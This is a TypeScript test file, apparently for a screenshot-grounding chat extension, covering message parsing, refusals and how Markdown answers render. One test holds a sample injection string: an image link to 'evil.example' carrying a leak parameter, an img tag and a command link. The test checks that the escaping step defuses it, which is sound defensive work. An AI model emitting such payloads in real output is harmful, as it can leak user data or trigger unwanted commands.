// What the chat participant understands of a message, and how an answer reads there.

import assert from 'node:assert/strict';
import test from 'node:test';
import { answerMarkdown, nextQuestions } from '../../extension/agent/chatAnswer';
import { readChatMessage } from '../../extension/agent/chatRequest';
import { escapeMarkdown } from '../../extension/markdown';
import { FailureError } from '../../protocol/failure';
import type { GroundedBox } from '../../protocol/inference';

const messages: readonly {
  name: string;
  command: string | null;
  prompt: string;
  references?: readonly (readonly [number, number])[];
  gives: object;
}[] = [
  {
    name: 'words without a command ask',
    command: null,
    prompt: 'Where is Save?',
    gives: { verb: 'ask', question: 'Where is Save?', regions: [], within: null },
  },
  {
    name: 'references are no words, wherever they stand',
    command: 'locate',
    prompt: 'the #file:a.png gear #file:b.png',
    references: [
      [21, 32],
      [4, 15],
    ],
    gives: { verb: 'locate', question: 'the gear', regions: [], within: null },
  },
  {
    name: 'reading needs no words',
    command: 'read',
    prompt: '',
    gives: { verb: 'read', question: '', regions: [], within: null },
  },
  {
    name: 'a list can be narrowed to a box',
    command: 'elements',
    prompt: '[10, 20, 30, 40]',
    gives: {
      verb: 'elements',
      question: '',
      regions: [],
      within: { kind: 'box', box: { x1: 10, y1: 20, x2: 30, y2: 40 } },
    },
  },
  {
    name: 'a point is described',
    command: 'describe',
    prompt: '412,300.5',
    gives: {
      verb: 'describe',
      question: 'What is this?',
      regions: [{ kind: 'point', x: 412, y: 300.5 }],
      within: null,
    },
  },
  {
    name: 'words after a place are the question',
    command: 'describe',
    prompt: '1,2,3,4 What does it say?',
    gives: {
      verb: 'describe',
      question: 'What does it say?',
      regions: [{ kind: 'box', box: { x1: 1, y1: 2, x2: 3, y2: 4 } }],
      within: null,
    },
  },
];
for (const { name, command, prompt, references = [], gives } of messages) {
  test(name, () => assert.deepEqual(readChatMessage({ command, prompt, references }), gives));
}

const refused: readonly { name: string; command: string | null; prompt: string; says: RegExp }[] = [
  { name: 'nothing to ask', command: null, prompt: ' ', says: /a question is missing; write one/ },
  { name: 'nothing to look for', command: 'locate', prompt: '', says: /a description is missing/ },
  {
    name: 'no place',
    command: 'describe',
    prompt: 'the thing there',
    says: /a place is missing; write its pixels/,
  },
  { name: 'an empty box', command: 'describe', prompt: '1,2,1,9', says: /the box is empty/ },
  {
    name: 'an unknown command',
    command: 'constructor',
    prompt: 'x',
    says: /\/constructor: this command is not known/,
  },
];
for (const { name, command, prompt, says } of refused) {
  test(`refused: ${name}`, () => {
    assert.throws(
      () => readChatMessage({ command, prompt, references: [] }),
      (error) => error instanceof FailureError && says.test(error.message),
    );
  });
}

function box(phrase: string, more: Partial<GroundedBox> = {}): GroundedBox {
  return { box: { x1: 1, y1: 2, x2: 3, y2: 4 }, phrase, score: 0.8, evidence: 'text', rank: 1, ...more };
}

function answered(boxes: readonly GroundedBox[], nearMisses: readonly GroundedBox[] = []) {
  const found = 0 < boxes.length;
  return {
    path: '/shots/a.png',
    size: { width: 10, height: 10 },
    answer: { answer: '', found, boxes, nearMisses, remarks: ['Read at night.'], timing: {} },
  };
}

const locate = { verb: 'locate', question: '', within: null } as const;

test('an answer is a numbered list with places, scores and remarks', () => {
  assert.equal(
    answerMarkdown(answered([box('Save', { kind: 'button' }), box('Save as')]), locate),
    [
      '1. **Save**, button at `1,2,3,4` (0.80, text)\n2. **Save as** at `1,2,3,4` (0.80, text)',
      '*Read at night\\.*',
    ].join('\n\n'),
  );
});

test('"not on this screen" reads like an answer, with near misses', () => {
  const text = answerMarkdown(answered([], [box('Safe')]), locate);
  assert.match(text, /^This is not on the screen\\\.\n\nWhat came closest:\n\n1\. \*\*Safe\*\*/);
});

test('a long list is cut, and says where the rest is', () => {
  const text = answerMarkdown(answered(Array.from({ length: 50 }, (_, index) => box(`b${index}`))), {
    verb: 'elements',
    question: '',
    within: null,
  });
  assert.match(text, /40\. .*\n\n… and 10 more, all of them in the screenshot editor\./);
  assert.doesNotMatch(text, /41\. /);
});

test('text of a picture cannot become an image, a link or a list', () => {
  const evil = '![x](https://evil.example/?leak) <img src=x>\n- [click](command:x) `code`';
  const escaped = escapeMarkdown(evil);
  assert.doesNotMatch(escaped, /(?<!\\)[![\]()<>`:]/);
  assert.doesNotMatch(escaped, /\n\s*-/);
});

test('after nothing was found, a list of everything is offered', () => {
  assert.deepEqual(
    nextQuestions({ verb: 'locate', found: false }).map(({ command }) => command),
    ['elements', 'read'],
  );
  assert.deepEqual(
    nextQuestions({ verb: 'elements', found: true }).map(({ command }) => command),
    ['read'],
  );
});
